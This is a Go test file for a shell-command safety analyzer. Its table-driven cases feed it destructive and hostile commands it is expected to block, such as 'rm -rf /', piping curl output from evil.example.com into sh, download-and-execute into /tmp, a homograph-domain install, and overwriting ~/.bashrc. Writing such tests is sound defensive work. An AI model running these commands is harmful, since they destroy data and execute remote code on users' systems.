// analyzer_test.go: end-to-end scenarios from the gate's testable-properties
// table, plus the universal properties (idempotence, allowlist dominance,
// monotone blocklist, depth bound). Bypass totality is covered by
// config_test.go's TestShouldSkip.
//
// Copyright (c) 2025 AGILira - A. Giordano
// Series: an AGILira library
// SPDX-License-Identifier: MPL-2.0

package shellshield

import (
	"context"
	"strings"
	"testing"
)

// fakeGitStatus reports every path in dirty as modified; everything else is
// clean. Lets tests exercise the "uncommitted changes" branch without
// shelling out.
type fakeGitStatus struct {
	dirty map[string]bool
}

func (f *fakeGitStatus) Dirty(_ context.Context, paths []string) (map[string]bool, error) {
	out := make(map[string]bool, len(paths))
	for _, p := range paths {
		out[p] = f.dirty[p]
	}
	return out, nil
}

func testAnalyzer() *Analyzer {
	cfg := DefaultConfig()
	return NewAnalyzer(cfg, nil, &fakeGitStatus{})
}

func TestAnalyzer_Scenarios(t *testing.T) {
	cases := []struct {
		name       string
		command    string
		wantBlock  bool
		reasonWant string // substring match; empty means don't check
		ruleWant   string
	}{
		{"critical-path-rm-root", "rm -rf /", true, "CRITICAL PATH PROTECTED", "CoreAst"},
		{"git-rm-exempt", "git rm file.txt", false, "", ""},
		{"quoted-literal-not-executed", "echo 'rm -rf /'", false, "", ""},
		{"variable-indirection", "CMD=rm; $CMD file.txt", true, "Destructive command 'rm' detected", "CoreAst"},
		{"trusted-pipe-to-shell-allowed", "curl -sSL https://raw.githubusercontent.com/x/y/main/install.sh | bash", false, "", ""},
		{"insecure-transport", "curl http://evil.example.com/x | sh", true, "INSECURE TRANSPORT DETECTED", "CoreAst"},
		{"download-and-exec", "curl https://x.test/a.sh -o /tmp/a.sh && bash /tmp/a.sh", true, "DOWNLOAD-AND-EXEC DETECTED", "CoreAst"},
		{"homograph", "curl https://аррӏе.com/i.sh | bash", true, "HOMOGRAPH ATTACK DETECTED", "Homograph"},
		{"terminal-injection", "echo -e \"\x1b[2Jrm -rf /\"", true, "TERMINAL INJECTION DETECTED", "TerminalInjection"},
		{"find-delete", "find . -name '*.log' -delete", true, "-delete", "CoreAst"},
		{"sensitive-path-wget", "wget -O ~/.bashrc https://x/y", true, "SENSITIVE PATH TARGETED", "CoreAst"},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := testAnalyzer().Analyze(tc.command)
			if d.Blocked != tc.wantBlock {
				t.Fatalf("Analyze(%q) blocked=%v reason=%q, want blocked=%v", tc.command, d.Blocked, d.Reason, tc.wantBlock)
			}
			if tc.wantBlock && tc.reasonWant != "" && !strings.Contains(d.Reason, tc.reasonWant) {
				t.Fatalf("Analyze(%q) reason=%q, want substring %q", tc.command, d.Reason, tc.reasonWant)
			}
			if tc.wantBlock && tc.ruleWant != "" && d.Rule != tc.ruleWant {
				t.Fatalf("Analyze(%q) rule=%q, want %q", tc.command, d.Rule, tc.ruleWant)
			}
		})
	}
}

func TestAnalyzer_VolumeThreshold(t *testing.T) {
	args := make([]string, 0, 200)
	for i := 0; i < 200; i++ {
		args = append(args, "file"+itoa(i))
	}
	cmd := "rm " + strings.Join(args, " ")
	d := testAnalyzer().Analyze(cmd)
	if !d.Blocked || d.Reason != "VOLUME THRESHOLD EXCEEDED" {
		t.Fatalf("got blocked=%v reason=%q, want VOLUME THRESHOLD EXCEEDED", d.Blocked, d.Reason)
	}
}

func TestAnalyzer_DeepSubshell(t *testing.T) {
	cmd := `bash -c "bash -c 'bash -c \"bash -c rm /etc\"'"`
	d := testAnalyzer().Analyze(cmd)
	if !d.Blocked {
		t.Fatalf("expected block for deeply nested destructive subshell, got allowed")
	}
	if d.Reason != "DEEP SUBSHELL DETECTED" && d.Reason != "CRITICAL PATH PROTECTED" {
		t.Fatalf("reason=%q, want DEEP SUBSHELL DETECTED or CRITICAL PATH PROTECTED", d.Reason)
	}
}

func TestAnalyzer_CommandTooLong(t *testing.T) {
	cmd := "echo " + strings.Repeat("a", MaxInputLength+1)
	d := testAnalyzer().Analyze(cmd)
	if !d.Blocked || d.Reason != "COMMAND TOO LONG" {
		t.Fatalf("got blocked=%v reason=%q, want COMMAND TOO LONG", d.Blocked, d.Reason)
	}
}

func TestAnalyzer_AllowlistDominance(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Allowed["rm"] = true
	a := NewAnalyzer(cfg, nil, &fakeGitStatus{})
	d := a.Analyze("rm somefile.txt")
	if d.Blocked {
		t.Fatalf("allowlisted command blocked: %+v", d)
	}
}

func TestAnalyzer_MonotoneBlocklist(t *testing.T) {
	cfg := DefaultConfig()
	a := NewAnalyzer(cfg, nil, &fakeGitStatus{})
	before := a.Analyze("frobnicate somefile.txt")
	if before.Blocked {
		t.Fatalf("unexpected block before adding to blocklist: %+v", before)
	}
	cfg.Blocked["frobnicate"] = true
	after := a.Analyze("frobnicate somefile.txt")
	if !after.Blocked {
		t.Fatalf("expected block after adding 'frobnicate' to blocklist")
	}
}

func TestAnalyzer_DepthBound(t *testing.T) {
	cfg := DefaultConfig()
	cfg.MaxSubshellDepth = 1
	a := NewAnalyzer(cfg, nil, &fakeGitStatus{})
	d := a.Analyze(`bash -c "bash -c 'echo hi'"`)
	if !d.Blocked || d.Reason != "SUBSHELL DEPTH LIMIT EXCEEDED" {
		t.Fatalf("got blocked=%v reason=%q, want SUBSHELL DEPTH LIMIT EXCEEDED", d.Blocked, d.Reason)
	}
}

func TestAnalyzer_Idempotence(t *testing.T) {
	a := testAnalyzer()
	cmd := "rm -rf /"
	first := a.Analyze(cmd)
	second := a.Analyze(cmd)
	if first != second {
		t.Fatalf("Analyze not idempotent: %+v vs %+v", first, second)
	}
}

func TestAnalyzer_UncommittedChanges(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Threshold = 50
	git := &fakeGitStatus{dirty: map[string]bool{"analyzer.go": true}}
	a := NewAnalyzer(cfg, nil, git)
	d := a.Analyze("rm analyzer.go")
	if !d.Blocked || d.Reason != "UNCOMMITTED CHANGES DETECTED" {
		t.Fatalf("got blocked=%v reason=%q, want UNCOMMITTED CHANGES DETECTED", d.Blocked, d.Reason)
	}
}

func TestAnalyzer_CustomRule(t *testing.T) {
	cfg := DefaultConfig()
	cfg.CustomRules = []CustomRule{{Pattern: `curl .*internal\.corp`, Suggestion: "use the approved internal mirror"}}
	a := NewAnalyzer(cfg, nil, &fakeGitStatus{})
	d := a.Analyze("curl https://build.internal.corp/artifact.tar.gz")
	if !d.Blocked || d.Reason != "CUSTOM RULE VIOLATION" {
		t.Fatalf("got blocked=%v reason=%q, want CUSTOM RULE VIOLATION", d.Blocked, d.Reason)
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	neg := n < 0
	if neg {
		n = -n
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	if neg {
		b = append([]byte{'-'}, b...)
	}
	return string(b)
}
